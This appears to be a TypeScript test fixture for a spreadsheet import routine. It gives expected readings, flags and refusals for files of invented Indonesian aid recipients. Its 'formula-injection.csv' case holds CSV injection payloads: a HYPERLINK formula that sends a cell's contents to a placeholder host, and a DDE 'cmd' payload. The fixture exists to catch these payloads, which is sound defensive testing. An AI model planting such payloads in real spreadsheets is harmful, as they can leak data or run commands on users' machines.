/**
 * What becomes of each file of the cabinet: the rows that are read, with the line of each and its cells by field, and all that a person is told;
 * or the code with which the file is refused. Every person is invented.
 */
import type { RowKind } from '../../../cli/files/read/mapping/fields.ts';

/** Cells of a row by the field that their column is proposed for; empty ones left out. */
type Fields = Readonly<Record<string, string>>;

/** One file and its outcome. */
export interface Outcome {
  readonly file: string;
  /** What agencies do. */
  readonly what: string;
  /** Workers where it is left out. */
  readonly kind?: RowKind;
  /** Titles of this file, by field, where nobody knows them. */
  readonly mapping?: Readonly<Record<string, readonly string[]>>;
  readonly sheet?: string;
  readonly refused?: string;
  /** Rows by line. */
  readonly rows?: Readonly<Record<number, Fields>>;
  /** Lines of rows that have more cells than there are titles. */
  readonly torn?: readonly number[];
  readonly notes?: readonly string[];
  /** Why rows are not taken into an empty roster, by line: a code and the field. */
  readonly judged?: Readonly<Record<number, readonly string[]>>;
}

const AGUS = {
  nik: '3275010105850000',
  name: 'Agus Setiawan',
  birthDate: '1985-05-01',
  village: 'Bekasijaya',
  district: 'Bekasi Timur',
  occupation: 'Ojek',
  phone: '080000000001',
  decile: '2',
  decileEdition: '2025-Q3',
};
const SITI = {
  nik: '3275025203900000',
  name: 'Siti Rahayu',
  birthDate: '1990-03-12',
  village: 'Margahayu',
  district: 'Bekasi Timur',
  occupation: 'Pedagang kaki lima',
  phone: '080000000002',
  decile: '3',
  decileEdition: '2025-Q3',
};
const JOKO = {
  nik: '3216011708720000',
  name: 'Joko Widodo Permana',
  birthDate: '1972-08-17',
  village: 'Durenjaya',
  district: 'Bekasi Timur',
  occupation: 'Becak',
  phone: '080000000003',
  decile: '1',
  decileEdition: '2025-Q3',
};
/** Those of whom a file says no more than who they are. */
const agus = { nik: AGUS.nik, name: AGUS.name, birthDate: '01/05/1985' };
const siti = { nik: SITI.nik, name: SITI.name, birthDate: '12/03/1990' };
const ALL = { 2: AGUS, 3: SITI, 4: JOKO };
/** Of a new person an import needs to know what they live by, and where. */
const UNSAID = ['MISSING occupation', 'MISSING village'];
/** @returns rows from line 2 on, that are Agus but for one field; each was registered in another district, so that nobody is there twice */
const agusWith = (field: string, values: readonly string[]): Record<number, Fields> =>
  Object.fromEntries(
    values.map((value, at) => [
      at + 2,
      { ...AGUS, nik: `3275${String(at + 1).padStart(2, '0')}0105850000`, [field]: value },
    ]),
  );

/** Every file of the folder. */
export const outcomes: readonly Outcome[] = [
  { file: 'comma.csv', what: 'as it should be', rows: ALL },
  { file: 'semicolon-with-mark.csv', what: 'an Indonesian Excel: semicolons, UTF-8 with a mark', rows: ALL },
  { file: 'tab.txt', what: 'tabs, lines that end as on Linux', rows: ALL },
  { file: 'sep-line.csv', what: 'a first line that states the delimiter', rows: { 3: AGUS, 4: SITI, 5: JOKO } },
  {
    file: 'windows-1252.csv',
    what: 'letters of Windows-1252',
    rows: { 2: { ...AGUS, name: 'André Setiawan' }, 3: { ...SITI, name: 'Siti Nur’aini' } },
    notes: ['The text is read as Windows-1252, since it is not UTF-8.'],
  },
  { file: 'utf-16.txt', what: '"Unicode text" of Excel: UTF-16 with a mark, tabs', rows: ALL },
  { file: 'utf-16-without-mark.csv', what: 'UTF-16 without a mark, the high byte first', rows: ALL },
  { file: 'old-mac-lines.csv', what: 'lines that end with a carriage return alone', rows: ALL },
  { file: 'line-break-in-cell.csv', what: 'a line break within a cell', rows: { 2: AGUS, 4: SITI } },
  {
    file: 'rt-rw-in-address.csv',
    what: 'RT/RW in the address, "Kel." before the village',
    rows: { 2: { ...AGUS, village: 'Kel. Bekasi Jaya', district: 'Kec. Bekasi Timur' } },
  },
  {
    file: 'name-with-comma.csv',
    what: 'a name with a comma, in quotation marks',
    rows: { 2: { ...SITI, name: 'Siti Rahayu, S.Pd' } },
  },
  {
    file: 'name-with-comma-unquoted.csv',
    what: 'a name with a comma, without quotation marks: a cell too many',
    judged: { 3: ['CELLS row'] },
    rows: { 2: AGUS, 4: JOKO },
    torn: [3],
    notes: ['More cells than titles, perhaps a comma in a value without quotation marks: line 3.'],
  },
  {
    file: 'nik-as-exponent.csv',
    what: 'a NIK that Excel made 3.275E+15 before it was saved as CSV',
    judged: { 2: ['NIK_ROUNDED nik'], 3: ['NIK_ROUNDED nik'] },
    rows: { 2: { ...AGUS, nik: '3.275E+15' }, 3: { ...SITI, nik: '3,27503E+15' } },
  },
  {
    file: 'nik-kept-as-text.csv',
    what: 'a NIK as ="…", and with an apostrophe before it',
    judged: { 2: UNSAID, 3: UNSAID },
    rows: { 2: agus, 3: siti },
  },
  {
    file: 'nik-with-blanks.csv',
    what: 'a NIK in groups',
    rows: {
      2: { ...AGUS, nik: '3275 0101 0585 0000' },
      3: { ...SITI, nik: '3275.02.520390.0000' },
      4: { ...JOKO, nik: '3216-0117-0872-0000' },
    },
  },
  {
    file: 'nik-too-short.csv',
    what: 'a NIK of 15 digits, none, and one with a letter O',
    judged: { 2: ['NIK_LENGTH nik'], 3: ['MISSING nik'], 4: ['NIK_LENGTH nik'] },
    rows: {
      2: { ...AGUS, nik: '327501010585000' },
      3: without(SITI, 'nik'),
      4: { ...JOKO, nik: '32160117O8720000' },
    },
  },
  {
    file: 'blanks-around.csv',
    what: 'blanks before and after, some that do not break, and a mark of no width',
    rows: { 2: AGUS, 3: SITI },
  },
  {
    file: 'dates-of-all-kinds.csv',
    what: '31 February, two digits for a year, names of months, the number of a day as a text',
    judged: {
      2: ['DATE_IMPOSSIBLE birthDate'],
      5: ['DATE_IMPOSSIBLE birthDate'],
      6: ['DATE_IMPOSSIBLE birthDate'],
      7: ['DATE_IMPOSSIBLE birthDate'],
      9: ['DATE_IMPOSSIBLE birthDate'],
    },
    rows: agusWith('birthDate', [
      '31/02/1985',
      '01-05-1985',
      '1 Mei 1985',
      '01/05/85',
      '31168',
      '00/00/1985',
      '01.05.1985',
      '1985',
    ]),
  },
  {
    file: 'phones-of-all-kinds.csv',
    what: 'a telephone without its 0, with +62, with dashes, two of them, none',
    judged: { 7: ['PHONE_FORM phone'] },
    rows: agusWith('phone', [
      '80000000001',
      '+6280000000001',
      '0800-0000-0001',
      '(0800) 0000 0001',
      '6280000000001',
      '080000000001/080000000002',
      '-',
    ]),
  },
  {
    file: 'women-plus-forty.csv',
    what: 'a woman with her day plus 40, without, and with a day that no month has',
    judged: { 4: ['NIK_DATE nik'] },
    rows: { 2: SITI, 3: { ...SITI, nik: '3275021203900000' }, 4: { ...SITI, nik: '3275027203900000' } },
  },
  {
    file: 'same-person-twice.csv',
    what: 'one person on two lines',
    judged: { 4: ['DUPLICATE_IN_FILE row'] },
    rows: { 2: AGUS, 3: SITI, 4: { ...AGUS, name: 'AGUS SETIAWAN' } },
  },
  {
    file: 'other-districts.csv',
    what: 'a province that is not there, a misspelt village, decile 11',
    judged: { 2: ['NIK_DISTRICT nik'], 3: ['VILLAGE_UNKNOWN village'], 4: ['NUMBER_RANGE decile'] },
    rows: {
      2: { ...AGUS, nik: '9999010105850000' },
      3: { ...SITI, village: 'Margahayuu', district: 'Bekasi Timurr' },
      4: { ...JOKO, decile: '11' },
    },
  },
  {
    file: 'title-and-totals.csv',
    what: 'a title above, numbers of columns, a total and a signature below',
    judged: { 6: UNSAID, 7: UNSAID },
    rows: { 6: agus, 7: siti },
    notes: [
      'Above the titles, not read: rows 1, 2.',
      'Left out, number of its column in each cell: line 5.',
      'Left out, a total: line 8.',
      'Left out, text below the table: lines 10, 11.',
    ],
  },
  {
    file: 'titles-on-each-page.csv',
    what: 'titles again in the middle',
    rows: { 2: AGUS, 4: SITI },
    notes: ['Left out, titles again: line 3.'],
  },
  {
    file: 'same-title-twice.csv',
    what: 'two columns with one title',
    judged: { 2: UNSAID },
    rows: { 2: agus },
    notes: ['The title "Nama" stands more than once; in column C it is read as "Nama (2)".'],
  },
  { file: 'blank-lines.csv', what: 'empty lines before, between and after', rows: { 4: AGUS, 7: SITI } },
  {
    file: 'empty-columns.csv',
    what: 'columns without a title, one of them with something in it',
    judged: { 2: UNSAID, 3: UNSAID },
    rows: { 2: agus, 3: siti },
    notes: ['Column D has no title.'],
  },
  {
    file: 'english.csv',
    what: 'titles in English, the code of a village',
    rows: {
      2: {
        nik: AGUS.nik,
        name: AGUS.name,
        birthDate: AGUS.birthDate,
        village: '32.75.01.1001',
        occupation: 'OJEK',
        phone: '+6280000000001',
      },
    },
  },
  {
    file: 'titles-of-one-office.csv',
    what: 'titles that only this office has, with a mapping',
    judged: { 2: UNSAID },
    mapping: { nik: ['kode_orang|x'], name: ['Sebutan'], birthDate: ['lahir_pd'] },
    rows: { 2: agus },
  },
  {
    file: 'formula-injection.csv',
    what: 'cells that a spreadsheet would compute',
    judged: {
      2: ['TEXT_FORMULA name'],
      3: ['TEXT_FORMULA name'],
      4: ['TEXT_FORMULA name', 'OCCUPATION_UNKNOWN occupation'],
    },
    rows: {
      2: { ...AGUS, name: '=HYPERLINK("http://example.invalid/?"&B2,"Agus")' },
      3: { ...SITI, name: "+cmd|' /C calc'!A0" },
      4: { ...JOKO, name: '@SUM(1)', occupation: '-2+3' },
    },
  },
  { file: 'no-titles.csv', what: 'no titles', refused: 'FILE_NO_HEADER' },
  { file: 'titles-only.csv', what: 'titles and no row', rows: {} },
  { file: 'empty.csv', what: 'nothing at all', refused: 'FILE_EMPTY' },
  { file: 'empty-lines-only.csv', what: 'a mark and empty lines', refused: 'FILE_EMPTY' },
  { file: 'quotation-mark-not-closed.csv', what: 'a quotation mark that is never closed', refused: 'FILE_BROKEN' },
  { file: 'pdf.csv', what: 'a PDF under the name of a CSV', refused: 'FILE_NO_TABLE' },
  { file: 'picture.csv', what: 'bytes that are no text', refused: 'FILE_NO_TABLE' },
  { file: 'web-page.xls', what: 'a web page that a program calls Excel', refused: 'FILE_NO_TABLE' },
  {
    file: 'decile-without-edition.csv',
    what: 'a decile, and no edition of it',
    judged: { 2: ['EDITION_UNKNOWN decileEdition'] },
    rows: { 2: without(AGUS, 'decileEdition') },
  },
  {
    file: 'members.csv',
    what: 'members of a group',
    kind: 'MEMBERS',
    rows: {
      2: {
        nik: SITI.nik,
        name: SITI.name,
        group: 'Guru non-ASN',
        unit: 'SDN Margahayu I',
        termFrom: '01/07/2024',
        village: SITI.village,
      },
    },
  },
  {
    file: 'verifications.csv',
    what: 'answers of an agency',
    judged: { 2: ['RECORD_UNKNOWN worker'] },
    kind: 'VERIFICATIONS',
    rows: {
      2: {
        worker: 'W-000001',
        agency: 'DINSOS',
        verdict: 'Cocok',
        requestedOn: '2025-11-01',
        answeredOn: '2025-11-04',
      },
    },
  },
  {
    file: 'merged-titles.xlsx',
    what: 'a title above, joined cells, titles in two rows, a total',
    rows: {
      5: { nik: AGUS.nik, name: AGUS.name, birthDate: AGUS.birthDate, village: AGUS.village, occupation: 'Ojek' },
      6: {
        nik: SITI.nik,
        name: SITI.name,
        birthDate: SITI.birthDate,
        village: SITI.village,
        occupation: SITI.occupation,
      },
    },
    notes: ['Above the titles, not read: row 1.', 'Left out, a total: line 7.'],
  },
  {
    file: 'titles-joined-over-two-rows.xlsx',
    what: '"Tanggal" over "Lahir" and "Daftar"',
    judged: { 3: ['MISSING occupation'] },
    rows: { 3: { ...agus, village: AGUS.village, enrolledOn: '03/11/2025' } },
  },
  { file: 'two-sheets.xlsx', what: 'people on two sheets', refused: 'FILE_SHEETS' },
  {
    file: 'two-sheets.xlsx',
    what: 'people on two sheets, one of them named',
    sheet: 'Bekasi Barat',
    rows: { 2: JOKO },
    notes: ['Sheets that were not read: "Bekasi Timur".'],
  },
  {
    file: 'instructions-and-hidden-sheet.xlsx',
    what: 'a sheet of instructions before the data, and a hidden one',
    rows: ALL,
    notes: ['Sheets that were not read: "Petunjuk".', 'Hidden sheets that were not read: "Pilihan".'],
  },
  {
    file: 'begins-at-c4.xlsx',
    what: 'a table that begins at C4, with a remark beside it',
    judged: { 5: UNSAID, 9: UNSAID },
    rows: { 5: agus, 9: { nik: SITI.nik, name: SITI.name } },
    notes: ['A cell beyond the last title (column E) was not read: line 5.'],
  },
  { file: 'empty.xlsx', what: 'a workbook without a cell', refused: 'FILE_EMPTY' },
  {
    file: 'numbers-and-dates.xlsx',
    what: 'a NIK that is a number, days, a number that is shown with zeros, the number of a day as a text',
    judged: {
      2: ['NIK_ROUNDED nik', 'EDITION_UNKNOWN decileEdition'],
      3: ['NUMBER_RANGE decile', 'DATE_IMPOSSIBLE enrolledOn'],
    },
    rows: {
      2: {
        nik: '3.27501010585E+15',
        name: AGUS.name,
        birthDate: AGUS.birthDate,
        kpj: '01234567890',
        phone: '80000000001',
        decile: '2',
        enrolledOn: '2025-11-03',
      },
      3: {
        nik: SITI.nik,
        name: SITI.name,
        birthDate: SITI.birthDate,
        kpj: '01234567891',
        phone: SITI.phone,
        decile: '2.5',
        enrolledOn: '45964',
      },
    },
    notes: ['Column G has days with an hour: the day was read.'],
  },
  {
    file: 'days-from-1904.xlsx',
    what: 'days that are counted from 1904',
    judged: { 2: UNSAID },
    rows: { 2: { nik: AGUS.nik, name: AGUS.name, birthDate: AGUS.birthDate } },
  },
  {
    file: 'formulas.xlsx',
    what: 'formulas, one of them a day, one that failed',
    judged: { 2: ['CELL_ERROR village', 'EDITION_UNKNOWN decileEdition'], 3: ['EDITION_UNKNOWN decileEdition'] },
    rows: {
      2: { nik: AGUS.nik, name: 'AGUS SETIAWAN', birthDate: AGUS.birthDate, village: '#N/A', decile: '2' },
      3: { nik: SITI.nik, name: SITI.name, birthDate: SITI.birthDate, village: SITI.village, decile: '3' },
    },
    notes: ['B has formulas (2)', 'C has formulas (1)', 'D has formulas (1)', 'E has formulas (1)'].map(
      (column) => `Column ${column}: what they gave when the file was saved was read.`,
    ),
  },
  {
    file: 'formulas-never-computed.xlsx',
    what: 'a formula that no spreadsheet has computed',
    judged: { 2: ['MISSING name', 'MISSING occupation', 'MISSING village'] },
    rows: { 2: { nik: AGUS.nik } },
    notes: ['Formulas without a value, read as empty: 1.'],
  },
  {
    file: 'hidden-column-and-rows.xlsx',
    what: 'a hidden column and a hidden row',
    rows: ALL,
    notes: [
      'Rows that are hidden in Excel, read as the others: 1.',
      'Columns that are hidden in Excel, read as the others: D.',
    ],
  },
  {
    file: 'rich-text-in-cells.xlsx',
    what: 'half a name in bold, texts within the cells',
    judged: { 2: UNSAID },
    rows: { 2: { nik: AGUS.nik, name: AGUS.name } },
  },
  {
    file: 'rich-text.xlsx',
    what: 'half a name in bold',
    judged: { 2: UNSAID },
    rows: { 2: { nik: AGUS.nik, name: AGUS.name } },
  },
  { file: 'cut-off.xlsx', what: 'half a file', refused: 'FILE_BROKEN' },
  { file: 'entities.xlsx', what: 'XML that defines entities', refused: 'FILE_BROKEN' },
  { file: 'with-password.xlsx', what: 'a password', refused: 'FILE_PASSWORD' },
  { file: 'macros.xlsm', what: 'macros', refused: 'FILE_MACROS' },
  { file: 'macros-renamed.xlsx', what: 'a file for macros under the name of one without', refused: 'FILE_MACROS' },
  { file: 'archive-with-csv.xlsx', what: 'an archive with a CSV in it', refused: 'FILE_NO_TABLE' },
  { file: 'old-excel.xls', what: 'Excel of 1997', refused: 'FILE_OLD_EXCEL' },
];

function without(fields: Fields, name: string): Fields {
  return Object.fromEntries(Object.entries(fields).filter(([field]) => field !== name));
}
